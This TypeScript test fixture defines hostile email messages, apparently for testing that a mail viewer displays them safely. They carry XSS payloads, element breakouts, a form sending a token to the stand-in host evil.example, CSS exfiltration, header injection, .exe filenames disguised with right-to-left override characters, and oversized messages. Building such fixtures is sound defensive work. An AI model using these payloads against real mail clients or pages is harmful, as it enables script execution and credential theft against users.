/** Mail that tries to do something to whoever looks at it. Every try that worked would set `ran` or ask evil.example. */
import { crlf } from "./real-messages.ts";

const RUN = "window.ran=1";
const EVIL = "http://evil.example";

/** One message; `subject` is what the page must show of it. */
export interface HostileMail {
  readonly name: string;
  readonly content: Buffer;
  readonly subject: string;
  /** Part of the text as it must be shown, word for word. */
  readonly shows: string;
}

function mail(
  name: string,
  body: string,
  { subject = name, type = "text/html", fields = "" } = {},
): HostileMail {
  const content = crlf(
    `From: Mallory <mallory@evil.example>\nTo: you@example.com\nSubject: ${subject}\n${fields}MIME-Version: 1.0\nContent-Type: ${type}; charset=utf-8\n\n${body}\n`,
  );
  return { name, content, subject, shows: body };
}

/** Breaks out of whatever element or attribute it could stand in. */
const BREAKOUT = `</pre></bdi></title></textarea></script>"'><script>${RUN}</script><img src=x onerror=${RUN}><style>body{display:none}</style>`;

export const hostileMail: readonly HostileMail[] = [
  mail("a script", `<script>${RUN}</script><script src="${EVIL}/x.js"></script>`),
  mail(
    "images with handlers",
    `<img src=x onerror="${RUN}"><img src="${EVIL}/pixel.png"><body onload="${RUN}">`,
  ),
  mail(
    "an SVG with a script",
    `<svg xmlns="http://www.w3.org/2000/svg" onload="${RUN}"><script>${RUN}</script></svg>`,
  ),
  mail("a refresh and a base", `<meta http-equiv="refresh" content="0;url=${EVIL}/"><base href="${EVIL}/">`),
  mail(
    "a form",
    `<form action="${EVIL}/" method="post"><input name="token" autofocus onfocus="${RUN}"></form>`,
  ),
  mail(
    "frames",
    `<iframe src="${EVIL}/"></iframe><iframe srcdoc="<script>top.ran=1</script>"></iframe><object data="${EVIL}/"></object><embed src="${EVIL}/">`,
  ),
  mail(
    "CSS that tells",
    `<style>@import "${EVIL}/x.css"; a[href^="/messages"]{background:url(${EVIL}/leak)} main{display:none}</style><p style="position:fixed;inset:0;background:url(${EVIL}/y)">over all</p>`,
  ),
  mail(
    "links that run",
    `<a href="javascript:${RUN}">one</a> <a href="data:text/html,<script>${RUN}</script>">two</a> javascript:${RUN} ${EVIL}/`,
  ),
  mail("a way out of the element", BREAKOUT),
  mail("a way out by the subject", "text", { subject: BREAKOUT, type: "text/plain" }),
  {
    ...mail("header injection", "text", {
      type: "text/plain",
      subject: "=?UTF-8?Q?injected=0D=0AX-Evil:_1=0D=0A=0D=0A<script>window.ran=3D1</script>?=",
    }),
    subject: "injectedX-Evil: 1<script>window.ran=1</script>",
  },
  mail("an override of direction", "text \u202egnp.exe\u2066", {
    type: "text/plain",
    subject: "invoice \u202efdp.exe \u2067mixed",
  }),
  mail("a type that breaks out", "text", {
    type: `text/plain; name="${BREAKOUT.replaceAll('"', "")}"`,
  }),
  {
    ...mail(
      "an attachment with a name",
      `--b\n\ntext\n--b\nContent-Type: application/x-y\nContent-Disposition: attachment; filename*=utf-8''${encodeURIComponent(BREAKOUT)}\n\nx\n--b--`,
      { type: "multipart/mixed; boundary=b", fields: `X-Name: ${BREAKOUT}\n` },
    ),
    shows: "text",
  },
];

/** A single line of 1 MB, of letters and markup. */
export const longLine: HostileMail = (() => {
  const body = `${"A".repeat(1_048_576 - BREAKOUT.length)}${BREAKOUT}`;
  return { ...mail("a line of 1 MB", body, { type: "text/plain" }), shows: "A".repeat(1000) };
})();

/** 10,000 header fields, each with markup. */
export const manyFields: HostileMail = (() => {
  const fields = Array.from({ length: 10_000 }, (_, n) => `X-${n}: <script>${RUN}</script>\n`).join("");
  return mail("10,000 header fields", "text", { type: "text/plain", fields });
})();
